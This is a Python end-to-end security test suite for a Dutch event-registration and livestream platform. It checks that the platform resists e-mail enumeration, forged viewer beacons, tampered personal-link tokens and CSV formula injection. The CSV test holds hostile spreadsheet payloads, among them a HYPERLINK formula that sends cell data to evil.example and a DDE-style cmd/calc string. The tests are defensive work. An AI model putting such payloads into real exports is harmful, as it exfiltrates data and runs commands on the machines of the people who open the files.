"""Personal data and personal links, tried as an attacker would through the one address:
someone else's e-mail address typed into the form, formula cells in the organisers' CSVs,
beacons in someone else's name, and forged, truncated or swapped tokens of every kind.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

from stolive_shared import links
from stolive_shared.contracts.topics import VIEWER_ACTIVITY
from tests.e2e.conftest import Platform
from tests.e2e.streams import PLAYLIST, make_hls, serve
from tests.e2e.test_events_in_browser import press_play
from tests.e2e.test_registrations_in_browser import fill_in_person
from tests.e2e.test_walking_skeleton import published_event
from tests.support import eventually, form_token, read_topic

AUTH_HEADER = "Authorization"
# The moment every forged beacon claims: none on the topic may carry it.
# A moment no real player sends (its own microseconds), an hour ago: within the endpoint's
# one-day clock tolerance whatever day the test runs (a fixed date expired after a day).
FORGED_AT = (datetime.now(UTC) - timedelta(hours=1)).replace(microsecond=123456).isoformat()


def _text(email: Any) -> str:
    body = email.message.get_body(preferencelist=("plain",))
    assert body is not None
    return str(body.get_content())


async def test_typing_someones_address_in_another_browser_reveals_nothing_and_tells_them(
    platform: Platform, browser: Any
) -> None:
    event_id = await published_event(platform, title="Privacy bij aanmelden")
    base = platform.stack.config.public_base_url
    form = f"{base}/registrations/events/{event_id}/aanmelden"
    anna, attacker = await browser.new_context(), await browser.new_context()
    try:
        page = await anna.new_page()
        await page.goto(form)
        await fill_in_person(page, "Anna de Vries", "anna.privacy@school.nl")
        await page.get_by_role("button", name="Aanmelden", exact=True).click()
        await page.wait_for_url("**/ontvangen")
        anna_saw = await page.inner_text("main")
        [confirmation] = await eventually(
            lambda: platform.smtp.to("anna.privacy@school.nl"), what="Anna's confirmation"
        )
        annas_link = re.search(r"\S+/registrations/r/\S+", _text(confirmation))
        assert annas_link is not None

        # Someone else, in another browser, types Anna's address under another name.
        other = await attacker.new_page()
        await other.goto(form)
        await fill_in_person(other, "Iemand Anders", "Anna.Privacy@School.nl")
        await other.get_by_role("button", name="Aanmelden", exact=True).click()
        await other.wait_for_url("**/ontvangen")
        assert await other.inner_text("main") == anna_saw  # the very same answer
        html = await other.content()
        assert "/registrations/r/" not in html
        assert "Anna" not in html
        assert "/events/watch/" not in html
        storage = await attacker.storage_state()
        assert annas_link.group(0).rsplit("/", 1)[1] not in str(storage)

        # Anna, and only Anna, is told, with her own link.
        mails = await eventually(
            lambda: _when(platform.smtp.to("anna.privacy@school.nl"), 2),
            what="Anna's 'Je was al aangemeld'",
        )
        [repeated] = [m for m in mails if m.subject.startswith("Je was al aangemeld")]
        assert annas_link.group(0) in _text(repeated)
        assert repeated.recipients == ["anna.privacy@school.nl"]

        # The JSON API answers a new and a known address alike, and never with a token.
        url = f"/registrations/api/events/{event_id}/registrations"

        async def api_sign_up(email: str) -> Any:
            token = await form_token(platform.gateway, "/registrations", event_id)
            body = {"name": "X", "email": email, "role": "docent", "privacy_consent": True}
            return await platform.gateway.post(url, json={**body, "form_token": token})

        known, new = (
            await api_sign_up("anna.privacy@school.nl"),
            await api_sign_up(f"nieuw-{uuid.uuid4().hex[:6]}@school.nl"),
        )
        assert (known.status_code, known.json()) == (new.status_code, new.json())
        assert "token" not in known.text.replace("form_token", "")
        assert "/r/" not in known.text
    finally:
        await anna.close()
        await attacker.close()


def _when(mails: list[Any], count: int) -> list[Any] | None:
    return mails if len(mails) >= count else None


async def test_a_colleague_booked_by_a_stranger_is_told_and_the_stranger_sees_nothing(
    platform: Platform, browser: Any
) -> None:
    event_id = await published_event(platform, title="Collega's en privacy")
    await _api_sign_up(platform, event_id, "bram.collega@school.nl", "Bram")
    base = platform.stack.config.public_base_url
    stranger = await browser.new_context()
    try:
        page = await stranger.new_page()
        await page.goto(f"{base}/registrations/events/{event_id}/aanmelden")
        await fill_in_person(page, "Vreemde", "vreemde@elders.nl")
        await page.get_by_role("button", name="Collega's toevoegen").click()
        await page.get_by_label("Naam van collega 1").fill("Wie Dan Ook")
        await page.get_by_label("E-mail van collega 1").fill("bram.collega@school.nl")
        await page.get_by_role("button", name="Aanmelden", exact=True).click()
        await page.wait_for_url("**/ontvangen")
        assert "Bram" not in await page.content()
    finally:
        await stranger.close()
    mails = await eventually(
        lambda: _when(platform.smtp.to("bram.collega@school.nl"), 2), what="Bram told again"
    )
    assert any(m.subject.startswith("Je was al aangemeld") for m in mails)
    # The stranger's own link lists only the colleagues they really signed up: not Bram.
    link = await platform.manage_link("vreemde@elders.nl")
    page_of_stranger = await platform.gateway.get(link.removeprefix(base))
    assert "Bram" not in page_of_stranger.text


async def _api_sign_up(platform: Platform, event_id: str, email: str, name: str) -> None:
    token = await form_token(platform.gateway, "/registrations", event_id)
    answer = await platform.gateway.post(
        f"/registrations/api/events/{event_id}/registrations",
        json={
            "name": name,
            "email": email,
            "role": "docent",
            "privacy_consent": True,
            "organisation": "Esdal College",
            "region_code": "drenthe",
            "form_token": token,
        },
    )
    assert answer.status_code == 202, answer.text


async def test_formula_cells_typed_into_the_public_api_are_text_in_every_csv(
    platform: Platform,
) -> None:
    event_id = await published_event(platform, title="CSV-injectie")
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
        "organisation": "+31 6 12345678",
        "region_code": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    token = await form_token(platform.gateway, "/registrations", event_id)
    answer = await platform.gateway.post(
        f"/registrations/api/events/{event_id}/registrations",
        json={
            **hostile,
            "email": "formule@school.nl",
            "role": "docent",
            "privacy_consent": True,
            "form_token": token,
        },
    )
    assert answer.status_code == 202, answer.text
    auth = {AUTH_HEADER: f"Bearer {platform.stack.organiser_token}"}

    async def csv_rows(path: str) -> list[list[str]] | None:
        raw = (await platform.gateway.get(path, headers=auth)).content
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
        return rows if len(rows) > 1 else None

    registrations = await eventually(
        lambda: csv_rows(f"/registrations/api/organiser/events/{event_id}/attendees.csv"),
        what="the attendee CSV",
    )
    analytics = await eventually(
        lambda: csv_rows(f"/analytics/api/events/{event_id}/attendance.csv"),
        what="the attendance CSV",
    )
    for rows in (registrations, analytics):
        cells = [cell for row in rows[1:] for cell in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], dangerous
        for value in hostile.values():
            if value in {c.lstrip("'") for c in cells}:
                assert "'" + value in cells
    assert "'" + hostile["name"] in registrations[1]
    assert "'" + hostile["name"] in analytics[1]


async def test_beacons_in_someone_elses_name_never_reach_the_topic(
    platform: Platform, browser: Any, figures: Callable[[str], None], tmp_path: Path
) -> None:
    with contextlib.ExitStack() as stack:
        await _forged_and_own_beacons(platform, browser, figures, tmp_path, stack)


async def _forged_and_own_beacons(
    platform: Platform,
    browser: Any,
    figures: Callable[[str], None],
    tmp_path: Path,
    stack: contextlib.ExitStack,
) -> None:
    event_id = await published_event(platform, title="STO LIVE: nagemaakte kijkmeldingen")
    other_event = await published_event(platform, title="STO LIVE: een andere uitzending")
    await _api_sign_up(platform, event_id, "kijker.echt@school.nl", "Echte Kijker")
    base = platform.stack.config.public_base_url
    manage = await platform.gateway.get(
        (await platform.manage_link("kijker.echt@school.nl")).removeprefix(base)
    )
    join = re.search(r'href="([^"]+/events/watch/[^"]+)"', manage.text)
    assert join is not None, "the manage page shows the personal watch link"
    token = join.group(1).split("?v=")[1].replace("&amp;", "&")
    viewer = token.split(".")[0]
    for target in (event_id, other_event):
        went = await platform.organiser.post(f"/api/events/{target}/go-live")
        assert went.status_code == 200

    def beacon(event: str, **extra: str) -> dict[str, str]:
        return {
            "event_id": event,
            "viewer_id": viewer,
            "action": "join",
            "mode": "live",
            "client_ts": FORGED_AT,
            **extra,
        }

    async def status(body: dict[str, str]) -> int:
        answer = await platform.gateway.post("/events/api/beacons", json=body)
        return answer.status_code

    # The endpoint learns of "live" from its own cache: wait until an anonymous beacon passes.
    await eventually(
        lambda: _is(status({**beacon(event_id), "viewer_id": "anoniem-1"}), 204),
        what="live beacons accepted",
    )
    forged = [
        beacon(event_id),  # the viewer id alone
        beacon(event_id, viewer_token=viewer + ".nagemaakt"),
        beacon(other_event, viewer_token=token),  # a real token, for another broadcast
        beacon(event_id, viewer_token=token[:-1]),  # truncated
    ]
    answers = [await status(body) for body in forged]
    assert answers == [403] * len(forged)

    # The person's own browser, opening their own link and playing the stream, does count.
    make_hls(tmp_path / "live", seconds=60)
    stream = stack.enter_context(serve(tmp_path))
    moved = await platform.organiser.patch(
        f"/api/events/{event_id}", json={"stream_url": stream.url(f"live/{PLAYLIST}")}
    )
    assert moved.status_code == 200, moved.text
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await page.goto(join.group(1).replace("&amp;", "&"))
        await press_play(page)

        async def on_topic() -> list[Any]:
            records = await read_topic(
                platform.kafka, VIEWER_ACTIVITY.name, VIEWER_ACTIVITY.partitions
            )
            return [r for r in records if viewer.encode() in (r.value or b"")]

        await eventually(on_topic, what="the person's own join on the topic")
    finally:
        await context.close()
    theirs = await on_topic()
    assert theirs, "the person's own beacons count"
    assert all(r.key == event_id.encode() for r in theirs)
    forged_moment = FORGED_AT.encode()
    assert not [r for r in theirs if forged_moment in (r.value or b"")], "a forged one arrived"
    figures(
        f"forged beacons: {len(forged)} in a registrant's name refused (403), none on the topic;"
        f" the registrant's own player: {len(theirs)} on the topic"
    )


async def _is(value: Any, expected: object) -> bool:
    return bool(await value == expected)


async def test_forged_truncated_and_swapped_tokens_get_a_clean_refusal_never_data(
    platform: Platform, figures: Callable[[str], None]
) -> None:
    event_id = await published_event(platform, title="Nagemaakte links")
    await _api_sign_up(platform, event_id, "link.eigenaar@school.nl", "Link Eigenaar")
    base = platform.stack.config.public_base_url
    manage = (await platform.manage_link("link.eigenaar@school.nl")).rsplit("/", 1)[1]
    registration = links.verify(platform.link_secret, "manage-registration", manage)
    assert registration is not None
    certificate = links.sign(platform.link_secret, "certificate", registration)
    tampered = {
        "forged": "0" * 32 + ".AAAAAAAAAAAAAAAAAAAAAAAA",
        "truncated": manage[:-2],
        "extended": manage + "A",
        "non-ascii": manage[:-1] + "\u00e9",
        "another purpose": certificate,
        "random": uuid.uuid4().hex,
    }
    places = {
        "manage page": "/registrations/r/{}",
        "manage api": "/registrations/api/registrations/{}",
        "qr code": "/registrations/r/{}/qr.svg",
        "unsubscribe": "/notifications/afmelden/{}",
        "newsletter confirmation": "/notifications/nieuwsbrief/bevestigen/{}",
        "certificate": "/analytics/certificaat/{}",
    }
    tried = 0
    for place, path in places.items():
        for kind, token in tampered.items():
            if place == "certificate" and kind == "another purpose":
                token = manage  # the manage token where a certificate's is expected
            answer = await platform.gateway.get(path.format(token))
            tried += 1
            assert answer.status_code in (401, 403, 404), (place, kind, answer.status_code)
            assert "Link Eigenaar" not in answer.text, (place, kind)
            assert "link.eigenaar" not in answer.text, (place, kind)
            if "text/html" in answer.headers.get("content-type", ""):
                assert 'lang="nl"' in answer.text, (place, kind)
    # A watch link that does not verify still shows the broadcast, to an anonymous viewer.
    for kind, token in tampered.items():
        page = await platform.gateway.get(f"/events/watch/{event_id}?v={token}")
        assert page.status_code == 200, kind
        assert 'data-viewer-token=""' in page.text, kind
    # A session cookie nobody was given opens nothing.
    async with httpx.AsyncClient(base_url=base) as forger:
        for value in ("x" * 43, manage, certificate, "%C3%A9" * 20):
            forger.cookies.set("sto_session", value)
            answer = await forger.get("/events/api/organiser/me")
            assert answer.status_code == 401, value
    figures(f"tokens: {tried} tampered personal links answered 401/403/404, none with data")
